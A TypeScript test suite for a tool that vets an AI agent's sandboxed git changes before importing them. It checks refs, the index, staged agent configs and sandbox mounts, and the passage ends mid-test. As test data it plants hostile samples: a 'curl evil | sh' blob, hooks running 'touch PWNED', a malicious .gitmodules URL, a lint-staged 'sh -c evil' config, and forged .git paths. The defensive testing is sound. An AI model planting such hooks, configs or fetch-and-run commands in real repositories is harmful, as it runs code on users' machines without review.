// The pieces of the import that ends a run (lib/git/): ref names, the ref
// reader, the decisions for every namespace, the walk that cleans the run's
// git directory, the index written back, and the import itself against real
// git, the agent's git simulated on the run's own directory (no sandbox).
import { decide, readSbpl } from '../sbpl.js';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { indexLayout, rebuildIndex } from '../../lib/git/git-index.js';
import { checkedOutBranches } from '../../lib/git/checked-out.js';
import { importRunGitDir } from '../../lib/git/import.js';
import { decideRefs } from '../../lib/git/ref-decisions.js';
import { parsePackedRefs, parseRefFile, readRefStore, type RefValue } from '../../lib/git/ref-store.js';
import { validRefName } from '../../lib/git/refname.js';
import { createRunGitDir, planRunGitDir, SHARED_OBJECTS } from '../../lib/git/run-git-dir.js';
import { sanitizeGitDir } from '../../lib/git/sanitize.js';
import { tempHome, writeFile } from '../helpers.js';

const t = tempHome();
after(() => t.cleanup());

const A = 'a'.repeat(40);
const B = 'b'.repeat(40);
const C = 'c'.repeat(40);
const oid = (o: string): RefValue => ({ kind: 'oid', oid: o });

test('ref names: what git check-ref-format accepts, and nothing else', () => {
  for (const ok of ['refs/heads/main', 'refs/heads/feature/x-1', 'refs/tags/v1.0', 'refs/stash', 'refs/heads/$(cmd)', 'refs/heads/ümlaut']) assert.equal(validRefName(ok), true, ok);
  for (const bad of ['HEAD', 'heads/main', 'refs/heads/a..b', 'refs/heads/.hidden', 'refs/heads/x.lock', 'refs/heads/a b', 'refs/heads/a\nb', 'refs/heads/a~1', 'refs/heads/a^', 'refs/heads/a:b', 'refs/heads/a?', 'refs/heads/a*', 'refs/heads/a[', 'refs/heads/a\\b', 'refs/heads/x@{1}', 'refs/heads/x.', 'refs/heads/x/', 'refs/heads//x', 'refs/heads/\x1b[31m']) {
    assert.equal(validRefName(bad), false, JSON.stringify(bad));
  }
});

test('ref files and packed-refs: ids and symbolic refs parse; anything else is a problem, named', () => {
  assert.deepEqual(parseRefFile(`${A}\n`), oid(A));
  assert.deepEqual(parseRefFile('ref: refs/heads/main\n'), { kind: 'symref', target: 'refs/heads/main' });
  for (const bad of ['', `${A}\n\n`, `${A} x\n`, 'ref: ../../config\n', 'ref: refs/heads/a..b\n', A.slice(1), 'garbage']) assert.equal(parseRefFile(bad), null, JSON.stringify(bad));
  const refs = new Map<string, RefValue>();
  const problems: string[] = [];
  parsePackedRefs(`# pack-refs with: peeled fully-peeled sorted \n${A} refs/heads/main\n${B} refs/tags/v1\n^${C}\n${C} refs/heads/a..b\nnonsense\n`, refs, problems);
  assert.deepEqual([...refs], [['refs/heads/main', oid(A)], ['refs/tags/v1', oid(B)]]);
  assert.deepEqual(problems, ['packed-refs line 5 (not a ref)', 'packed-refs line 6 (not a ref)']);
});

test('the ref reader follows no link and opens no special file; loose refs win over packed ones', () => {
  const g = join(t.dir, 'refstore');
  writeFile(join(g, 'packed-refs'), `${A} refs/heads/main\n${A} refs/heads/packed\n`);
  writeFile(join(g, 'refs', 'heads', 'main'), `${B}\n`);
  writeFile(join(g, 'refs', 'heads', 'main.lock'), 'x');
  writeFile(join(g, 'refs', 'remotes', 'origin', 'HEAD'), 'ref: refs/remotes/origin/main\n');
  writeFile(join(t.dir, 'outside'), `${C}\n`);
  symlinkSync(join(t.dir, 'outside'), join(g, 'refs', 'heads', 'link'));
  symlinkSync(join(t.dir, 'outside'), join(g, 'refs', 'tags'));
  spawnSync('mkfifo', [join(g, 'refs', 'heads', 'fifo')]);
  writeFile(join(g, 'refs', 'heads', 'junk'), 'not a ref\n');
  const s = readRefStore(g);
  assert.deepEqual([...s.refs].sort(), [
    ['refs/heads/main', oid(B)], ['refs/heads/packed', oid(A)], ['refs/remotes/origin/HEAD', { kind: 'symref', target: 'refs/remotes/origin/main' }],
  ]);
  assert.deepEqual(s.problems.sort(), ['refs/heads/fifo (not a regular file)', 'refs/heads/junk (not a ref)', 'refs/heads/link (a symbolic link)', 'refs/tags (a symbolic link)']);
  assert.equal(s.incomplete, false);
});

test('ref decisions for every namespace: the run\'s own branch, branches, tags, stash, replace, notes, symbolic refs, and yours changed meanwhile', () => {
  const start = new Map<string, RefValue>([
    ['refs/heads/own', oid(A)], ['refs/heads/own-gone', oid(A)], ['refs/heads/dev', oid(A)], ['refs/heads/rel', oid(A)], ['refs/heads/old', oid(A)],
    ['refs/tags/v1', oid(A)], ['refs/tags/v2', oid(A)], ['refs/stash', oid(A)], ['refs/replace/' + A, oid(B)], ['refs/notes/commits', oid(A)],
    ['refs/remotes/origin/HEAD', { kind: 'symref', target: 'refs/remotes/origin/main' }], ['refs/heads/mine', oid(A)],
    ['refs/heads/stashbase/other-agent-name', oid(A)], ['refs/heads/busy', oid(A)],
  ]);
  const agent = new Map<string, RefValue>([
    ['refs/heads/own', oid(C)], ['refs/heads/dev', oid(B)], ['refs/heads/rel', oid(C)], ['refs/tags/v2', oid(B)], ['refs/tags/v3', oid(B)],
    ['refs/stash', oid(B)], ['refs/replace/' + C, oid(B)], ['refs/notes/commits', oid(B)], ['refs/heads/new', oid(B)],
    ['refs/remotes/origin/HEAD', { kind: 'symref', target: 'refs/remotes/origin/evil' }], ['refs/heads/mine', oid(B)],
    ['refs/heads/stashbase/other-agent-name', oid(B)], ['refs/heads/stashbase/made-up-name', oid(B)], ['refs/heads/busy', oid(B)],
  ]);
  const current = new Map(start);
  current.set('refs/heads/mine', oid(C));
  // B contains A; C does not.
  const d = decideRefs({ start, agent, current, own: 'refs/heads/own', checkedOutElsewhere: new Map([['refs/heads/busy', 'the worktree /w']]), isAncestor: (o, n) => o === A && n === B, remotes: new Set(['origin']) });
  const table = d.map((x) => [x.ref, x.kind, x.take, x.reason]);
  assert.deepEqual(table, [
    ['refs/heads/busy', 'fast-forward', false, 'it is checked out in the worktree /w'],
    ['refs/heads/dev', 'fast-forward', true, null],
    ['refs/heads/mine', 'fast-forward', false, 'it changed on your side during the run: yours is kept'],
    ['refs/heads/new', 'created', true, null],
    ['refs/heads/old', 'deleted', false, 'deletions are not taken'],
    ['refs/heads/own', 'rewritten', true, null],
    ['refs/heads/own-gone', 'deleted', false, 'deletions are not taken'],
    ['refs/heads/rel', 'rewritten', false, 'rewrites are not taken'],
    ['refs/heads/stashbase/made-up-name', 'created', false, "another agent's branch: stashbase makes and imports those, one run each"],
    ['refs/heads/stashbase/other-agent-name', 'fast-forward', false, "another agent's branch: stashbase makes and imports those, one run each"],
    ['refs/notes/commits', 'fast-forward', false, 'notes are never taken (git log would show them under your own commits)'],
    ['refs/remotes/origin/HEAD', 'symbolic', false, 'symbolic refs are kept as they were'],
    [`refs/replace/${A}`, 'deleted', false, 'deletions are not taken'],
    [`refs/replace/${C}`, 'created', false, 'replace refs are never taken (git would show their objects in place of yours)'],
    ['refs/stash', 'fast-forward', false, "a stash entry of the agent's is not put on your stash (your git stash pop would apply it unreviewed)"],
    ['refs/tags/v1', 'deleted', false, 'deletions are not taken'],
    ['refs/tags/v2', 'moved', false, 'tags are not moved'],
    // (Review) a new tag would keep a release's name from the real one: not taken (its objects come in).
    ['refs/tags/v3', 'created', false, "a tag names a release: the agent's would keep the name from the real one (git fetch does not clobber a tag)"],
  ]);
  // A dropped stash entry (the stash ref moved to an older one, or gone) and a rewritten stash.
  const stash = (to: RefValue | undefined) => decideRefs({ start: new Map([['refs/stash', oid(B)]]), agent: new Map(to ? [['refs/stash', to]] : []), current: new Map([['refs/stash', oid(B)]]), own: null, checkedOutElsewhere: new Map(), isAncestor: () => false, remotes: new Set<string>() })[0];
  assert.deepEqual([stash(undefined)?.take, stash(oid(C))?.take], [false, false]);
});

test('the walk before the import: links, FIFOs and sockets removed, setuid and setgid bits cleared, each named; the bound refuses the whole', () => {
  const g = join(t.dir, 'walk');
  writeFile(join(g, 'objects', 'ab', 'cd'), 'x');
  chmodSync(join(g, 'objects', 'ab', 'cd'), 0o4755);
  mkdirSync(join(g, 'refs', 'heads'), { recursive: true });
  chmodSync(join(g, 'refs', 'heads'), 0o2755);
  symlinkSync('/etc/passwd', join(g, 'logs-HEAD'));
  spawnSync('mkfifo', [join(g, 'objects', 'alternates')]);
  const r = sanitizeGitDir(g);
  assert.deepEqual(r.fixed.sort(), ['logs-HEAD (a symbolic link): removed', 'objects/ab/cd (setuid or setgid): the bit cleared', 'objects/alternates (a FIFO): removed', 'refs/heads (setuid or setgid): the bit cleared']);
  assert.equal(r.incomplete, false);
  assert.equal(statSync(join(g, 'objects', 'ab', 'cd')).mode & 0o7777, 0o755);
  assert.equal(existsSync(join(g, 'logs-HEAD')), false);
  assert.equal(sanitizeGitDir(g, 2).incomplete, true);
});

/** A repository with main (two commits), dev, a tag and a stash entry; and git run as the user, or on the run's own directory as the agent. */
function setup(name: string) {
  const root = join(t.dir, name);
  const env = { PATH: process.env.PATH, HOME: t.home, GIT_CONFIG_NOSYSTEM: '1', GIT_AUTHOR_NAME: 'u', GIT_AUTHOR_EMAIL: 'u@x', GIT_COMMITTER_NAME: 'u', GIT_COMMITTER_EMAIL: 'u@x' };
  const git = (args: string[], o: { dir?: string; input?: string } = {}) => {
    const r = spawnSync('git', args, { cwd: root, env: o.dir ? { ...env, GIT_DIR: o.dir, GIT_WORK_TREE: root } : env, encoding: 'utf8', input: o.input });
    assert.equal(r.status, 0, `git ${args.join(' ')}: ${r.stderr}`);
    return r.stdout.trim();
  };
  mkdirSync(root, { recursive: true });
  git(['init', '-q', '-b', 'main']);
  writeFile(join(root, 'a.txt'), 'one\n');
  git(['add', 'a.txt']);
  git(['commit', '-qm', 'first']);
  writeFile(join(root, 'a.txt'), 'two\n');
  git(['commit', '-qam', 'second']);
  git(['branch', 'dev']);
  git(['tag', 'v1']);
  writeFile(join(root, 'a.txt'), 'stashed\n');
  git(['stash', '-q']);
  const plan = planRunGitDir({ gitDir: join(root, '.git'), admin: null, stateDir: join(t.dir, `${name}-state`), hideOthers: false, workTree: root });
  const { file } = createRunGitDir(plan);
  // Outside a sandbox the run's alternate must name your store where it is (inside, it is bound at stashbase-objects).
  writeFileSync(join(plan.dir, 'objects', 'info', 'alternates'), `${join(root, '.git', 'objects')}\n`);
  for (const name of ['config', 'info', 'hooks']) if (existsSync(join(plan.dir, name))) spawnSync('cp', ['-rT', join(root, '.git', name), join(plan.dir, name)]);
  assert.equal(existsSync(join(plan.dir, SHARED_OBJECTS)), true);
  const agent = (args: string[], input?: string) => git(args, { dir: plan.dir, input });
  return { root, git, agent, plan, file };
}

test('the import: commits, a new branch and the index come in; a new tag (review), a deleted tag, a rewritten branch, a dropped stash and a replace ref do not', async () => {
  const s = setup('import');
  const before = { main: s.git(['rev-parse', 'main']), dev: s.git(['rev-parse', 'dev']), v1: s.git(['rev-parse', 'v1']), stash: s.git(['rev-parse', 'refs/stash']) };
  s.agent(['stash', 'drop', '-q']);
  writeFile(join(s.root, 'b.txt'), 'agent\n');
  s.agent(['add', 'b.txt']);
  s.agent(['commit', '-qm', 'agent: b']);
  s.agent(['tag', 'v2']);
  s.agent(['tag', '-d', 'v1']);
  s.agent(['branch', 'feat']);
  s.agent(['update-ref', 'refs/heads/dev', `${before.dev}~1`]);
  const blob = s.agent(['hash-object', '-w', '--stdin'], 'all: ; curl evil | sh\n');
  s.agent(['update-ref', `refs/replace/${s.git(['rev-parse', 'main:a.txt'])}`, blob]);
  writeFile(join(s.root, 'c.txt'), 'staged\n');
  s.agent(['add', 'c.txt']);
  const r = await importRunGitDir(s.file, { git: 'git', session: 'ags_aaaaaaaaaaaaaaaa', keptDir: join(t.dir, 'kept-ags_aaaaaaaaaaaaaaaa') });
  const main = s.git(['rev-parse', 'main']);
  assert.equal(s.git(['log', '-1', '--format=%s', 'main']), 'agent: b');
  assert.equal(s.git(['rev-parse', 'feat']), main);
  // (Review) the agent's new tag is not taken: it would keep a release's name from the real one. Its objects come in.
  assert.notEqual(spawnSync('git', ['-C', s.root, 'rev-parse', '--verify', '-q', 'refs/tags/v2']).status, 0);
  assert.deepEqual([s.git(['rev-parse', 'v1']), s.git(['rev-parse', 'dev']), s.git(['rev-parse', 'refs/stash'])], [before.v1, before.dev, before.stash]);
  assert.equal(s.git(['for-each-ref', 'refs/replace']), '');
  assert.equal(s.git(['status', '--porcelain']), 'A  c.txt', 'the staged file, from the agent\'s index');
  assert.notEqual(spawnSync('git', ['-C', s.root, 'cat-file', '-e', blob]).status, 0, 'a refused ref\'s objects stay out of yours');
  assert.deepEqual(r.own, [`the agent added commits to refs/heads/main: taken (undo: git update-ref refs/heads/main ${before.main}):\n  ${main.slice(0, 7)} agent: b`]);
  assert.deepEqual(r.warnings, [
    `the agent rewrote refs/heads/dev (${before.dev.slice(0, 12)} -> ${s.git(['rev-parse', `${before.dev}~1`]).slice(0, 12)}): not taken (rewrites are not taken)`,
    `the agent created refs/heads/feat at ${main.slice(0, 12)}: taken (undo: git update-ref -d refs/heads/feat)`,
    `the agent created refs/replace/${s.git(['rev-parse', 'main:a.txt'])} at ${blob.slice(0, 12)}: not taken (replace refs are never taken (git would show their objects in place of yours))`,
    `the agent deleted refs/stash (at ${before.stash.slice(0, 12)}): not taken (deletions are not taken)`,
    `the agent deleted refs/tags/v1 (at ${before.v1.slice(0, 12)}): not taken (deletions are not taken)`,
    `the agent created refs/tags/v2 at ${main.slice(0, 12)}: not taken (a tag names a release: the agent's would keep the name from the real one (git fetch does not clobber a tag); its objects are in your object store: git tag v2 ${main} takes it)`,
  ]);
  assert.equal(existsSync(s.file), false, 'its record is gone: no later run imports it again');
  assert.equal(s.git(['fsck', '--no-progress', '--connectivity-only']), '');
});

test('(review, round 26) a stash entry the agent made is not put on your stash (its untracked part held an ignored file of code): its objects come in, and the warning says how to look and keep it; control: kept as said, git stash pop writes the file', async () => {
  const s2 = setup('stashed');
  writeFile(join(s2.root, 'pkg', '__pycache__', 'mod.cpython-311.pyc'), 'code the end-of-run check removes from the tree\n');
  writeFile(join(s2.root, '.gitignore'), 'pkg/__pycache__/\n');
  s2.agent(['stash', 'push', '-q', '-a', '--', 'pkg/__pycache__']);
  const entry = s2.agent(['rev-parse', 'refs/stash']);
  assert.equal(existsSync(join(s2.root, 'pkg', '__pycache__')), false, 'stashed away, out of the tree');
  const mine = s2.git(['rev-parse', 'refs/stash']);
  const r = await importRunGitDir(s2.file, { git: 'git', session: 'ags_bbbbbbbbbbbbbbbb', keptDir: join(t.dir, 'kept-ags_bbbbbbbbbbbbbbbb') });
  assert.equal(s2.git(['rev-parse', 'refs/stash']), mine, 'your stash is as it was');
  assert.equal(s2.git(['stash', 'list']).split('\n').length, 1);
  assert.deepEqual(r.warnings, [`the agent rewrote refs/stash (${mine.slice(0, 12)} -> ${entry.slice(0, 12)}): not taken (a stash entry of the agent's is not put on your stash (your git stash pop would apply it unreviewed); the entry is in your object store: git stash show -p --include-untracked ${entry} shows it, git stash store -m "from run ags_bbbbbbbbbbbbbbbb" ${entry} puts it on your stash)`]);
  // Control: kept as the warning says, your git stash pop brings the file back into your checkout.
  s2.git(['stash', 'store', '-m', 'from run', entry]);
  s2.git(['stash', 'pop', '-q']);
  assert.equal(readFileSync(join(s2.root, 'pkg', '__pycache__', 'mod.cpython-311.pyc'), 'utf8'), 'code the end-of-run check removes from the tree\n');
});

test('the index comes back without extensions, and what the agent changed in it is rehashed, never trusted by its stat data', () => {
  const s = setup('index');
  writeFile(join(s.root, 'b.txt'), 'b\n');
  s.git(['add', 'b.txt']);
  s.git(['write-tree']); // a cache-tree extension
  const buf = readFileSync(join(s.root, '.git', 'index'));
  const layout = indexLayout(buf);
  assert.ok(layout);
  assert.ok(buf.length - 20 > layout.entriesEnd, 'the index has extensions');
  const fresh = layout.entries.filter((e) => e.path === 'b.txt');
  const out = rebuildIndex(buf, layout, fresh, 20);
  assert.equal(out.length, layout.entriesEnd + 20);
  assert.deepEqual([...out.subarray(fresh[0]!.at, fresh[0]!.at + 24)], new Array(24).fill(0));
  writeFileSync(join(s.root, '.git', 'index'), out);
  assert.equal(s.git(['status', '--porcelain']), 'A  b.txt');
  assert.equal(s.git(['ls-files', '--debug', 'a.txt']).includes('size: 0'), false, 'an entry not fresh keeps its stat data');
});

test('the native plan: bubblewrap gets the run\'s own git directory at your .git; the systemd-run fallback keeps your .git read-only and says so', async () => {
  const { prepareNative } = await import('../../lib/native/prepare.js');
  const { defaultProfile } = await import('../../lib/profile/default.js');
  const s = setup('plan');
  const base = {
    session: 'ags_bbbbbbbbbbbbbbbb', profile: defaultProfile(), command: ['true'], cwd: s.root, env: { PATH: process.env.PATH }, home: t.home,
    stashbaseHome: join(t.dir, 'plan-sb'), placeholders: {}, proxyToken: 't', hookToken: 'h', proxyUrl: 'http://127.0.0.1:1',
  };
  const g = join(s.root, '.git');
  const bw = prepareNative({ ...base, mechanism: { kind: 'bwrap', path: '/usr/bin/bwrap', why: 'test' } });
  assert.equal(bw.gitDir?.gitDir, g);
  assert.equal(bw.gitDir?.dir, join(t.dir, 'plan-sb', 'runs', 'ags_bbbbbbbbbbbbbbbb', 'git'));
  assert.deepEqual(bw.gitDir?.mounts.slice(0, 2), [{ src: bw.gitDir?.dir, dest: g, ro: false }, { src: join(g, 'objects'), dest: join(g, SHARED_OBJECTS), ro: true }]);
  assert.equal(bw.protection.denyWrite.some((d) => d.path === g), false);
  const sd = prepareNative({ ...base, mechanism: { kind: 'systemd-run', path: '/usr/bin/systemd-run', why: 'test' } });
  assert.equal(sd.gitDir, null);
  assert.equal(sd.protection.denyWrite.some((d) => d.path === g), true);
  assert.ok(sd.protection.warnings.includes(`the systemd-run fallback gives the agent no git directory of its own: ${g} is read-only in this run (its git cannot commit; with bubblewrap it can)`));
  // Seatbelt: the same, in its profile; and a worktree run's own denials (its checkout) are in it too.
  const sb = prepareNative({ ...base, runDenyWrite: [join(t.dir, 'checkout-of-a-worktree-run')], mechanism: { kind: 'seatbelt', path: '/usr/bin/sandbox-exec', why: 'test' } });
  const sbpl = sb.seatbelt!.args[sb.seatbelt!.args.indexOf('-p') + 1]!;
  const rules = readSbpl(sbpl);
  assert.equal(decide(rules, 'file-write-data', join(g, 'HEAD')), 'deny', 'your .git is in the write denials');
  assert.equal(decide(rules, 'file-write-data', join(t.dir, 'checkout-of-a-worktree-run', 'f')), 'deny', "the run's own denials too");
  assert.equal(decide(rules, 'file-write-data', join(s.root, 'f')), 'allow');
  assert.ok(sb.protection.warnings.includes(`Seatbelt gives the agent no git directory of its own: ${g} is read-only in this run (its git cannot commit; the Docker backend gives it one)`));
});

test('an index with an entry git would never write (out of the working tree, into a .git, any spelling of it) is not taken; the control: git checkout . writes such an entry', async () => {
  const { indexProblem, badIndexPath } = await import('../../lib/git/git-index.js');
  const { indexCandidate } = await import('../../lib/git/index-import.js');
  const { createHash } = await import('node:crypto');
  const s = setup('badpath');
  writeFile(join(s.root, 'abcd', 'hooks', 'post-checkout'), '#!/bin/sh\ntouch "$PWN"\n');
  writeFile(join(s.root, 'zz', 'precious.txt'), 'agent\n');
  s.git(['add', 'abcd', 'zz']);
  const good = readFileSync(join(s.root, '.git', 'index'));
  // The same index, a path rewritten byte for byte (same length), the checksum made anew.
  const forge = (from: string, to: string) => {
    const body = Buffer.from(good.subarray(0, -20));
    const at = body.indexOf(from);
    body.write(to, at, 'latin1');
    return Buffer.concat([body, createHash('sha1').update(body).digest()]);
  };
  const cases: Array<[string, string]> = [['abcd/hooks', '.git/hooks'], ['abcd/hooks', '.GIT/hooks'], ['abcd/hooks', 'git~1/hooks'], ['zz/precious', '../precious']];
  for (const [from, to] of cases) {
    const buf = forge(from, to);
    const layout = indexLayout(buf)!;
    assert.ok(layout, to);
    assert.match(indexProblem(buf, layout, 20) ?? '', /component|order/, to);
  }
  assert.equal(indexProblem(good, indexLayout(good)!, 20), null);
  assert.deepEqual([badIndexPath('.git.', 0o100644), badIndexPath('a/.g\u200cit/x', 0o100644), badIndexPath('.gitmodules', 0o120000), badIndexPath('src/a.ts', 0o100644)], ['a .git component', 'a .git component', 'a symbolic link git reads as its own file', null]);
  // The control: git writes what such an index names (here the forged hook) on checkout.
  const ctl = copyOf(s.root);
  writeFileSync(join(ctl, '.git', 'index'), forge('abcd/hooks', '.git/hooks'));
  spawnSync('git', ['checkout', '--', '.'], { cwd: ctl });
  assert.equal(existsSync(join(ctl, '.git', 'hooks', 'post-checkout')), true, 'outside, git checkout . writes into .git');
  // The import refuses it, and says so.
  writeFileSync(join(s.plan.dir, 'index'), forge('abcd/hooks', '.git/hooks'));
  const rec = JSON.parse(readFileSync(s.file, 'utf8'));
  // Your index as it is now (this test staged the files after the run's start).
  rec.start.yourIndex = (await import('../../lib/git/run-git-dir.js')).stampOf(join(s.root, '.git', 'index'));
  const c = indexCandidate(s.plan.dir, join(s.root, '.git'), rec);
  assert.match(String(c), /^the sandbox's index holds an entry git would never write \("\.git\/hooks\/post-checkout": a \.git component\): not taken/);
});

test('from a second review: an index with a mode git never records, a file that is also a folder, a new intent-to-add mark, or a .git / .gitmodules spelled for NTFS or HFS is not taken', async () => {
  const { indexProblem, badIndexPath } = await import('../../lib/git/git-index.js');
  const { indexCandidate } = await import('../../lib/git/index-import.js');
  const { stampOf } = await import('../../lib/git/run-git-dir.js');
  const { createHash } = await import('node:crypto');
  const s = setup('badindex');
  writeFile(join(s.root, 'd'), 'file\n');
  writeFile(join(s.root, 'e', 'evil'), 'x\n');
  s.git(['add', 'd', 'e']);
  const good = readFileSync(join(s.root, '.git', 'index'));
  const sum = (body: Buffer) => Buffer.concat([body, createHash('sha1').update(body).digest()]);
  const layout = indexLayout(good)!;
  // A mode with the setuid bit; "e/evil" renamed "d/evil" (same length): d is a file and a folder.
  const setuid = Buffer.from(good.subarray(0, -20));
  setuid.writeUInt32BE(0o104777, layout.entries.find((e) => e.path === 'd')!.at + 24);
  const clash = Buffer.from(good.subarray(0, -20));
  clash.write('d/evil', clash.indexOf('e/evil'), 'latin1');
  assert.equal(indexProblem(sum(setuid), indexLayout(sum(setuid))!, 20), '"d": mode 104777');
  assert.equal(indexProblem(sum(clash), indexLayout(sum(clash))!, 20), '"d/evil": below "d", which is an entry itself');
  assert.equal(indexProblem(good, layout, 20), null);
  // git add -N in the run: a new intent-to-add mark is not carried back (on a path your HEAD has, your commit would delete it).
  writeFile(join(s.root, 'n.txt'), 'new\n');
  s.agent(['add', '-N', 'n.txt']);
  const rec = JSON.parse(readFileSync(s.file, 'utf8'));
  rec.start.yourIndex = stampOf(join(s.root, '.git', 'index'));
  assert.equal(indexCandidate(s.plan.dir, join(s.root, '.git'), rec), `${join(s.root, '.git')}/index: the sandbox's index marks n.txt intent-to-add (git add -N), which your next commit records as deleted where your HEAD has the file: it is not carried back (stage those files again yourself)`);
  // NTFS streams and short names, HFS's ignored characters: the spellings git's own verify_path refuses.
  assert.deepEqual(
    ['.git:x/y', '.git::$INDEX_ALLOCATION/hooks/a', 'GIT~1/config', 'src/.git. . /x'].map((p) => badIndexPath(p, 0o100644)),
    ['a .git component', 'a .git component', 'a .git component', 'a .git component'],
  );
  assert.deepEqual(
    ['gitmod~1', '.gitmodules\u200c', 'GI7EBA~3', '.gitattributes:stream', 'gi250a~1', 'mailma~2'].map((p) => badIndexPath(p, 0o120000)),
    Array(6).fill('a symbolic link git reads as its own file'),
  );
  assert.deepEqual(['gitmod~1', '.gitmodules.bak', 'gitmodules', 'git~10'].map((p) => badIndexPath(p, p === 'git~10' ? 0o100644 : 0o120000)), [
    'a symbolic link git reads as its own file', null, null, null,
  ]);
});

test('(review, round 30) a submodule commit the run staged other than yours is not carried back, with the whole index: git submodule update checks out what the index names', async () => {
  const { indexCandidate } = await import('../../lib/git/index-import.js');
  const { stampOf } = await import('../../lib/git/run-git-dir.js');
  const s = setup('submove');
  s.git(['update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},vendor/lib`]);
  s.git(['commit', '-qm', 'sub']);
  // The run's index as the run started with yours (a submodule already there).
  s.agent(['update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},vendor/lib`]);
  s.agent(['update-index', '--add', '--cacheinfo', `160000,${'2'.repeat(40)},vendor/lib`]);
  const rec = JSON.parse(readFileSync(s.file, 'utf8'));
  rec.start.yourIndex = stampOf(join(s.root, '.git', 'index'));
  assert.equal(indexCandidate(s.plan.dir, join(s.root, '.git'), rec), `${join(s.root, '.git')}/index: the sandbox's index stages a submodule commit other than yours at vendor/lib, which your git submodule update checks out: it is not carried back (review it, then stage it yourself)`);
});

test('from a third review: a .gitmodules the run staged (at the top or in a subfolder) is not carried back, with the whole index: git reads it from there where the file is missing; control: git submodule init registers what the staged one names', async () => {
  const { indexCandidate } = await import('../../lib/git/index-import.js');
  const { stampOf } = await import('../../lib/git/run-git-dir.js');
  const s = setup('stagedmodules');
  const evil = '[submodule "lib"]\n\tpath = lib\n\turl = https://example.invalid/evil.git\n';
  writeFile(join(s.root, '.gitmodules'), evil);
  writeFile(join(s.root, 'sub', '.gitmodules'), evil);
  s.agent(['add', '.gitmodules', 'sub/.gitmodules']);
  s.agent(['update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},lib`]);
  const rec = JSON.parse(readFileSync(s.file, 'utf8'));
  rec.start.yourIndex = stampOf(join(s.root, '.git', 'index'));
  assert.equal(indexCandidate(s.plan.dir, join(s.root, '.git'), rec), `${join(s.root, '.git')}/index: the sandbox's index stages .gitmodules, sub/.gitmodules, which your git submodule commands read from the index where the file is missing, to choose the repositories they fetch: it is not carried back (review the file, then stage it yourself)`);
  // Control: with that index yours and the file gone (moved aside at the run's end), git submodule init takes the staged one.
  const ctl = copyOf(s.root);
  spawnSync('cp', [join(s.plan.dir, 'index'), join(ctl, '.git', 'index')]);
  rmSync(join(ctl, '.gitmodules'));
  const objects = { ...process.env, GIT_ALTERNATE_OBJECT_DIRECTORIES: join(s.plan.dir, 'objects') };
  const init = spawnSync('git', ['-C', ctl, 'submodule', 'init'], { encoding: 'utf8', env: objects });
  assert.equal(init.status, 0, init.stderr);
  assert.equal(spawnSync('git', ['-C', ctl, 'config', '--get', 'submodule.lib.url'], { encoding: 'utf8' }).stdout, 'https://example.invalid/evil.git\n');
});

test('(review, round 26) a tool config or another file that runs code, staged by the run and not written (the run keeps the file from the agent), is not carried back, with the whole index; control: git stash and pop with that index writes it into your checkout', async () => {
  const { indexCandidate } = await import('../../lib/git/index-import.js');
  const { stampOf } = await import('../../lib/git/run-git-dir.js');
  const s = setup('stagedconfig');
  const evil = '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch PWNED"}]}]}}\n';
  const blob = s.agent(['hash-object', '-w', '--stdin'], evil);
  s.agent(['update-index', '--add', '--cacheinfo', `100644,${blob},.claude/settings.json`]);
  const rec = JSON.parse(readFileSync(s.file, 'utf8'));
  rec.start.yourIndex = stampOf(join(s.root, '.git', 'index'));
  assert.equal(indexCandidate(s.plan.dir, join(s.root, '.git'), rec), `${join(s.root, '.git')}/index: the sandbox's index stages .claude/settings.json, which can run code on your machine (agent configuration: hooks, commands or MCP servers your next agent run obeys) and which your next git commit, git stash or git restore takes from the index, whatever the file in your working tree holds: it is not carried back (review the files, then stage them yourself)`);
  // Unnamed by the review: a hook runner's config, and a staged file of no such kind beside it is taken.
  const other = setup('stagedlintstaged');
  const cfg = other.agent(['hash-object', '-w', '--stdin'], '{"*":"sh -c evil"}\n');
  other.agent(['update-index', '--add', '--cacheinfo', `100644,${cfg},web/.lintstagedrc.json`]);
  const rec2 = JSON.parse(readFileSync(other.file, 'utf8'));
  rec2.start.yourIndex = stampOf(join(other.root, '.git', 'index'));
  assert.match(indexCandidate(other.plan.dir, join(other.root, '.git'), rec2) as string, /stages web\/\.lintstagedrc\.json, which can run code on your machine \(git commit hook runner configuration/);
  const fine = setup('stagedfine');
  writeFile(join(fine.root, 'notes.txt'), 'notes\n');
  fine.agent(['add', 'notes.txt']);
  const rec3 = JSON.parse(readFileSync(fine.file, 'utf8'));
  rec3.start.yourIndex = stampOf(join(fine.root, '.git', 'index'));
  assert.equal(typeof indexCandidate(fine.plan.dir, join(fine.root, '.git'), rec3), 'object', 'control: a plain staged file is carried back');
  // Control: with that index yours, git stash and pop writes the staged settings into the checkout.
  const ctl = copyOf(s.root);
  spawnSync('cp', [join(s.plan.dir, 'index'), join(ctl, '.git', 'index')]);
  const objects = { ...process.env, GIT_ALTERNATE_OBJECT_DIRECTORIES: join(s.plan.dir, 'objects'), GIT_AUTHOR_NAME: 'u', GIT_AUTHOR_EMAIL: 'u@x', GIT_COMMITTER_NAME: 'u', GIT_COMMITTER_EMAIL: 'u@x' };
  spawnSync('git', ['-C', ctl, 'repack', '-aq'], { env: objects });
  for (const args of [['stash', '-q'], ['stash', 'pop', '-q', '--index']]) {
    const r = spawnSync('git', ['-C', ctl, ...args], { encoding: 'utf8', env: objects });
    assert.equal(r.status, 0, `git ${args.join(' ')}: ${r.stderr}`);
  }
  assert.equal(readFileSync(join(ctl, '.claude', 'settings.json'), 'utf8'), evil);
});

test('(review, round 26) the index carries back only what the working tree holds: a hook staged into the folder core.hooksPath names (kept read-only in runs, of no name the review knows), a file made executable only in the index; control: a file staged as the tree holds it comes back', async () => {
  const { indexCandidate } = await import('../../lib/git/index-import.js');
  const { stampOf } = await import('../../lib/git/run-git-dir.js');
  const s = setup('hookspath');
  s.git(['config', 'core.hooksPath', 'scripts/git-hooks']);
  const hook = s.agent(['hash-object', '-w', '--stdin'], '#!/bin/sh\ntouch "$HOME/PWNED"\n');
  s.agent(['update-index', '--add', '--cacheinfo', `100755,${hook},scripts/git-hooks/pre-commit`]);
